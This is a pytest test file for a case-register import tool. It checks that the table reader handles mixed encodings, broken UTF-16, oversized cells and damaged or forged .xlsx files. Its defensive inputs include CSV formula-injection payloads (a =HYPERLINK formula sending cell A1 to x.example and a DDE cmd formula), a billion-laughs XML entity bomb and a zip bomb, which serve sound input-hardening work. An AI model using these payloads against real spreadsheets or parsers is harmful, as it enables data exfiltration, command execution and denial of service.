"""engine.records.tables, the one table reader, and the case import through it (issue 10, item 3): encodings decided
row by row, oversized cells, broken UTF-16, damaged or forged .xlsx, formula cells in the rejects file.

Every input is built here in code, as a user would have made it."""
import csv
import io
import struct
import zipfile
from pathlib import Path

import pytest

from cases import importer, store
from engine.cli import main
from engine.errors import UserError
from engine.records import tables
from engine.records.tables import BadRow, csv_rows, excel_safe, grid_rows, xlsx_rows

HEADER = "case_id,received_date,description,unit\r\n"


@pytest.fixture
def conn(tmp_path):
    c = store.connect(tmp_path / "cases.db")
    yield c
    c.close()


def mixed_file(tmp_path) -> Path:
    """The file of issue 10: an ASCII header, UTF-8 rows, one row saved in GBK — plus one row that is neither."""
    rows = [
        HEADER.encode("ascii"),
        "M-1,2026-08-01,要求外地企业在本地设立分公司,青禾市商务局\r\n".encode("utf-8"),
        "M-2,2026-08-02,指定唯一供应商，排斥外地经营者,临溪县教育局\r\n".encode("utf-8"),
        "M-3,2026-08-03,对本地企业给予财政奖励,临溪县财政局\r\n".encode("gbk"),
        b"M-4,2026-08-04,\xff\xfe\x80 bad bytes,\xc0\r\n",
        "M-5,2026-08-05,备案前须经专家评审,青禾市发改委\r\n".encode("utf-8"),
    ]
    path = tmp_path / "mixed.csv"
    path.write_bytes(b"".join(rows))
    return path


def test_mixed_encoding_csv_is_decoded_row_by_row(tmp_path):
    rows = list(csv_rows(mixed_file(tmp_path)))
    assert [n for n, _ in rows] == [1, 2, 3, 4, 5, 6]
    assert rows[1][1][2] == "要求外地企业在本地设立分公司"
    assert rows[3][1] == ["M-3", "2026-08-03", "对本地企业给予财政奖励", "临溪县财政局"]   # the GBK row, not mojibake
    assert isinstance(rows[4][1], BadRow) and "GB18030" in rows[4][1].reason
    assert rows[5][1][3] == "青禾市发改委"


def test_mixed_encoding_file_imports_every_good_row_unchanged(tmp_path, conn):
    res = importer.import_file(mixed_file(tmp_path), conn)
    assert (res.read, res.new, res.rejected) == (5, 4, 1) and res.balanced()
    assert res.rejects[0].row == 5 and res.rejects[0].case_id == ""
    assert "既不是 UTF-8 也不是 GB18030/GBK" in res.rejects[0].reason
    stored = {r["case_id"]: (r["description"], r["unit"]) for r in conn.execute("SELECT * FROM cases")}
    assert stored == {"M-1": ("要求外地企业在本地设立分公司", "青禾市商务局"),
                      "M-2": ("指定唯一供应商，排斥外地经营者", "临溪县教育局"),
                      "M-3": ("对本地企业给予财政奖励", "临溪县财政局"),
                      "M-5": ("备案前须经专家评审", "青禾市发改委")}
    # the rejects file is written even though no --rejects was given: beside the register
    assert Path(res.rejects_file) == tmp_path / "mixed_拒收.csv"
    back = list(csv.reader(io.StringIO(Path(res.rejects_file).read_text(encoding="utf-8-sig"))))
    assert back[1][0] == "5" and "GB18030" in back[1][2]


def test_damaged_utf8_row_is_refused_not_read_as_gb18030(tmp_path, conn):
    good = "D-1,2026-08-01,要求外地企业在本地设立分公司并缴纳保证金\r\n".encode("utf-8")
    damaged = bytearray("D-2,2026-08-02,要求外地企业在本地设立分公司并缴纳保证金\r\n".encode("utf-8"))
    damaged[20] = 0xFF   # one byte of one character gone bad
    path = tmp_path / "damaged.csv"
    path.write_bytes(HEADER.encode() + good + bytes(damaged))
    res = importer.import_file(path, conn)
    assert (res.new, res.rejected) == (1, 1)
    assert "UTF-8 编码损坏" in res.rejects[0].reason
    for (desc,) in conn.execute("SELECT description FROM cases"):
        assert desc == "要求外地企业在本地设立分公司并缴纳保证金"


def test_whole_gb18030_file_still_reads(tmp_path, conn):
    path = tmp_path / "gbk.csv"
    path.write_bytes(("案例编号,受理日期,问题描述\r\nG-1,2026-08-01,限定外地企业参与投标\r\n"
                      "G-2,2026年8月2日,𠀀字与€符号\r\n").encode("gb18030"))
    res = importer.import_file(path, conn)
    assert (res.new, res.rejected) == (2, 0)
    assert store.get(conn, "G-2").description == "𠀀字与€符号"   # a four-byte GB18030 character


def test_field_over_the_csv_modules_limit_no_longer_aborts_the_file(tmp_path, conn):
    big = "本地" * 100_000                                     # 200,000 characters: over csv's 131,072
    huge = "甲" * (tables.MAX_FIELD_CHARS + 1)                 # over the documented bound
    path = tmp_path / "long.csv"
    path.write_text(HEADER + f"L-1,2026-08-01,{big},单位\r\nL-2,2026-08-02,{huge},单位\r\n"
                    "L-3,2026-08-03,正常的一行,单位\r\n", encoding="utf-8")
    res = importer.import_file(path, conn)
    assert (res.read, res.new, res.rejected) == (3, 2, 1) and res.balanced()
    assert res.rejects[0].row == 3
    assert f"{tables.MAX_FIELD_CHARS:,}" in res.rejects[0].reason and "第 C 列" in res.rejects[0].reason
    assert store.get(conn, "L-1").description == big
    assert Path(res.rejects_file).exists()


def test_broken_utf16_after_a_bom_rejects_the_row(tmp_path, conn):
    body = (HEADER + "U-1,2026-08-01,要求本地注册,甲\r\n").encode("utf-16-le")
    bad = "U-2,2026-08-02,".encode("utf-16-le") + b"\x00\xd8" + ",乙\r\n".encode("utf-16-le")   # a lone surrogate
    tail = "U-3,2026-08-03,指定供应商,丙\r\n".encode("utf-16-le") + b"\x41"          # and an odd last byte
    path = tmp_path / "u16.csv"
    path.write_bytes(b"\xff\xfe" + body + bad + tail)
    res = importer.import_file(path, conn)
    assert res.new == 2 and res.rejected == 2 and res.balanced(), res.rejects
    assert all("UTF-16" in r.reason for r in res.rejects)
    assert store.get(conn, "U-3").description == "指定供应商"


def test_broken_utf16_on_the_command_line_is_one_clear_line(tmp_path, capsys):
    path = tmp_path / "u16.csv"
    path.write_bytes(b"\xfe\xff" + "案例编号,受理日期,问题描述\n".encode("utf-16-be") + b"\xdc\x00\x00")
    assert main(["cases", "import", str(path), "--db", str(tmp_path / "c.db")]) == 0
    err = capsys.readouterr().err
    assert "UTF-16" in err and "内部错误" not in err and "Traceback" not in err


def test_broken_utf16_yaml_filing_list_is_a_user_error(tmp_path):
    from engine.records.filing import read_items

    path = tmp_path / "items.yaml"
    path.write_bytes(b"\xff\xfe" + "- 事项名称: 甲\n".encode("utf-16-le") + b"\x00\xdc")
    with pytest.raises(UserError, match="UTF-16"):
        read_items(path)


def test_rejects_csv_neutralises_formulas_and_reads_back(tmp_path, conn):
    evil = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(["案例编号", "受理日期", "问题描述"])
    for e in evil:
        w.writerow([e, "", "描述"])            # no date: every row is rejected, with its id
    path = tmp_path / "evil.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    rej = tmp_path / "rejects.csv"
    res = importer.import_file(path, conn, rej)
    assert res.rejected == len(evil)
    back = list(csv.reader(io.StringIO(rej.read_text(encoding="utf-8-sig"), newline="")))
    ids = [r[1] for r in back[1:]]
    assert len(ids) == len(evil)
    for cell in ids + [r[2] for r in back[1:]]:
        assert not cell or cell[0] not in "=+-@\t\r", cell
    assert ids[0] == "'" + evil[0] and ids[1] == "'=cmd|' /C calc'!A0"
    # and the value kept after the apostrophe is exactly what was in the file (modulo the cleaning of spaces)
    assert [i[1:] for i in ids[:5]] == evil[:5]


def test_excel_safe():
    assert excel_safe("=1") == "'=1" and excel_safe("本地") == "本地" and excel_safe(5) == 5 and excel_safe("") == ""


# ---- xlsx ----------------------------------------------------------------------------------------------------------

def make_xlsx(path: Path, rows) -> Path:
    from openpyxl import Workbook

    wb = Workbook()
    for r in rows:
        wb.active.append(r)
    wb.save(path)
    return path


def rewrite_zip(src: Path, dst: Path, change) -> Path:
    """Copy an .xlsx part by part; change(name, data) -> new data."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, change(info.filename, zin.read(info.filename)))
    return dst


def sheet_offset(data: bytes, name: bytes) -> int:
    """Offset of the local header of one part in the zip bytes."""
    i = data.find(b"PK\x03\x04")
    while i >= 0:
        n = struct.unpack("<H", data[i + 26:i + 28])[0]
        if data[i + 30:i + 30 + n] == name:
            return i
        i = data.find(b"PK\x03\x04", i + 4)
    raise AssertionError(name)


def read_all(path: Path):
    return list(grid_rows(path))


@pytest.fixture
def good_xlsx(tmp_path):
    return make_xlsx(tmp_path / "good.xlsx", [["案例编号", "受理日期", "问题描述"], ["X-1", "2026-08-01", "要求本地注册"]])


def test_good_xlsx_reads(good_xlsx):
    assert read_all(good_xlsx) == [(1, ["案例编号", "受理日期", "问题描述"]), (2, ["X-1", "2026-08-01", "要求本地注册"])]


@pytest.mark.parametrize("damage, words", [
    ("truncated", "ZIP"), ("crc", "压缩数据损坏"), ("deflate", "压缩数据损坏"), ("method", "不支持的压缩方式"),
    ("encrypted-flag", "已加密"), ("ole", "已加密或是旧版 .xls"), ("xml", "XML"), ("no-sheet", "没有工作表"),
    ("not-zip", "不是完整的 ZIP"), ("entities", "XML 实体"),
])
def test_damaged_xlsx_is_one_clear_line(good_xlsx, tmp_path, damage, words, capsys):
    data = bytearray(good_xlsx.read_bytes())
    sheet = b"xl/worksheets/sheet1.xml"
    off = sheet_offset(bytes(data), sheet)
    bad = tmp_path / "bad.xlsx"
    if damage == "truncated":
        bad.write_bytes(bytes(data[: len(data) // 2]))
    elif damage == "crc":
        data[off + 14] ^= 0xFF   # the local CRC; the central directory's too
        i = bytes(data).find(b"PK\x01\x02")
        while i >= 0:
            n = struct.unpack("<H", data[i + 28:i + 30])[0]
            if bytes(data[i + 46:i + 46 + n]) == sheet:
                data[i + 16] ^= 0xFF
            i = bytes(data).find(b"PK\x01\x02", i + 4)
        bad.write_bytes(bytes(data))
    elif damage == "deflate":
        n = struct.unpack("<H", data[off + 26:off + 28])[0] + struct.unpack("<H", data[off + 28:off + 30])[0]
        start = off + 30 + n
        for k in range(start, start + 12):
            data[k] = 0xFF
        bad.write_bytes(bytes(data))
    elif damage in ("method", "encrypted-flag"):
        i = bytes(data).find(b"PK\x01\x02")
        while i >= 0:
            n = struct.unpack("<H", data[i + 28:i + 30])[0]
            if bytes(data[i + 46:i + 46 + n]) == sheet:
                if damage == "method":
                    data[i + 10:i + 12] = struct.pack("<H", 99)
                else:
                    data[i + 8] |= 1
            i = bytes(data).find(b"PK\x01\x02", i + 4)
        bad.write_bytes(bytes(data))
    elif damage == "ole":
        bad.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)
    elif damage == "xml":
        rewrite_zip(good_xlsx, bad, lambda name, d: d[:-40] if name == sheet.decode() else d)
    elif damage == "no-sheet":
        with zipfile.ZipFile(good_xlsx) as zin, zipfile.ZipFile(bad, "w") as zout:
            for info in zin.infolist():
                if info.filename != sheet.decode():
                    zout.writestr(info.filename, zin.read(info.filename))
    elif damage == "entities":   # a billion laughs in the sheet: refused, never expanded
        lol = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + b"".join(
            b'<!ENTITY %s "%s">' % (bytes([98 + k]), (b"&%s;" % bytes([97 + k])) * 10) for k in range(8)) + b"]>"
        rewrite_zip(good_xlsx, bad, lambda name, d: (lol + d.split(b"?>", 1)[-1].replace(b"<v>", b"<v>&i;", 1))
                    if name == sheet.decode() else d)
    elif damage == "not-zip":
        bad.write_bytes(b"just some text, not a workbook\n")
    with pytest.raises(UserError) as e:
        read_all(bad)
    assert words in str(e.value) and "bad.xlsx" in str(e.value), str(e.value)
    # and on the command line: exit 2, one line, no internal error
    assert main(["cases", "import", str(bad), "--db", str(tmp_path / "c.db")]) == 2
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0 and "内部错误" not in err and "Traceback" not in err, err


def test_xlsx_bomb_is_refused_before_inflating(tmp_path):
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * (tables.MAX_XLSX_UNPACKED + 1))
    with pytest.raises(UserError, match="解压后有"):
        read_all(path)


def test_forged_dimension_and_far_rows_stay_small_and_bounded(tmp_path, good_xlsx):
    sheet = "xl/worksheets/sheet1.xml"

    def forge(name, d):
        if name != sheet:
            return d
        d = d.replace(b'<dimension ref="A1:C2"/>', b'<dimension ref="A1:XFD1048576"/>')
        far = b'<row r="3"><c r="XFD3" t="inlineStr"><is><t>far</t></is></c></row>'
        return d.replace(b"</sheetData>", far + b"</sheetData>")

    path = rewrite_zip(good_xlsx, tmp_path / "forged.xlsx", forge)
    rows = read_all(path)
    assert len(rows) == 3 and all(len(c) <= tables.MAX_COLUMNS for _, c in rows)
    assert rows[2][1] == []   # the only cell is past the columns read


def test_xlsx_rows_past_the_row_limit_are_a_clear_error(tmp_path, good_xlsx, monkeypatch):
    monkeypatch.setattr(tables, "MAX_ROWS", 1)
    with pytest.raises(UserError, match="超过 1 行"):
        list(xlsx_rows(good_xlsx))


def test_file_over_the_size_bound_is_refused_at_once(tmp_path, monkeypatch):
    path = tmp_path / "big.csv"
    path.write_text(HEADER + "B-1,2026-08-01,x,y\n" * 1000, encoding="utf-8")
    monkeypatch.setattr(tables, "MAX_TABLE_BYTES", 1000)
    with pytest.raises(UserError, match="超过表格文件上限"):
        list(csv_rows(path))


# ---- the other tables read through the same reader ------------------------------------------------------------------

def test_filing_list_with_a_gbk_row_and_a_bad_row(tmp_path):
    from engine.records.filing import read_items

    path = tmp_path / "items.csv"
    path.write_bytes("事项名称,实施机关\r\n城镇污水排入排水管网备案,市水务局\r\n".encode("utf-8")
                     + "建设项目备案,县发改局\r\n".encode("gbk") + b"\xff\xff\xff,\x80\r\n")
    items, bad = read_items(path)
    assert [it.name for _, it in items] == ["城镇污水排入排水管网备案", "建设项目备案"]
    assert len(bad) == 1 and bad[0].line == 4 and "GB18030" in bad[0].message


def test_list_edition_with_an_undecodable_row_is_refused_whole(tmp_path):
    from engine.records.market_list import read_table

    path = tmp_path / "list.csv"
    path.write_bytes("序号,类别,事项名称,措施描述\r\n1,禁止,甲事项,不得从事\r\n".encode("utf-8") + b"2,\xff\x80,x,y\r\n")
    with pytest.raises(UserError, match="第 3 行"):
        read_table(path)


def test_jsonl_lines_are_decoded_one_by_one(tmp_path, conn):
    path = tmp_path / "x.jsonl"
    path.write_bytes('{"案例编号": "J1", "受理日期": "2026-08-01", "问题描述": "要求本地注册"}\n'.encode("utf-8")
                     + '{"案例编号": "J2", "受理日期": "2026-08-02", "问题描述": "指定供应商"}\n'.encode("gbk")
                     + b'{"\xff\x80": 1}\n' + b'{"case_id": "J4", "date": "2026-08-04", "description": "\\ud800"}\n'
                     + b"[" * 100_000 + b"\n")
    res = importer.import_file(path, conn)
    assert (res.new, res.rejected) == (2, 3) and res.balanced()
    assert store.get(conn, "J2").description == "指定供应商"
    assert "代理项" in res.rejects[1].reason


def test_gbk_row_that_is_also_valid_utf8_is_read_as_the_file_is(tmp_path):
    """“全部” in GBK is C8 AB B2 BF: valid UTF-8 too (“ȫ²¿” is not, but “全” alone reads as “ȫ”)."""
    gbk_only = "A,2026-08-01,全\r\n".encode("gbk")
    assert gbk_only.decode("utf-8") == "A,2026-08-01,ȫ\r\n"
    path = tmp_path / "gbk.csv"
    path.write_bytes(HEADER.encode() + gbk_only + "B,2026-08-02,对本地企业给予奖励\r\n".encode("gbk"))
    assert [c[2] for _, c in csv_rows(path)][1:] == ["全", "对本地企业给予奖励"]
    # in a UTF-8 file the same bytes are what UTF-8 says they are
    path.write_bytes(HEADER.encode() + gbk_only + "B,2026-08-02,对本地企业给予奖励\r\n".encode("utf-8"))
    assert [c[2] for _, c in csv_rows(path)][1:] == ["ȫ", "对本地企业给予奖励"]
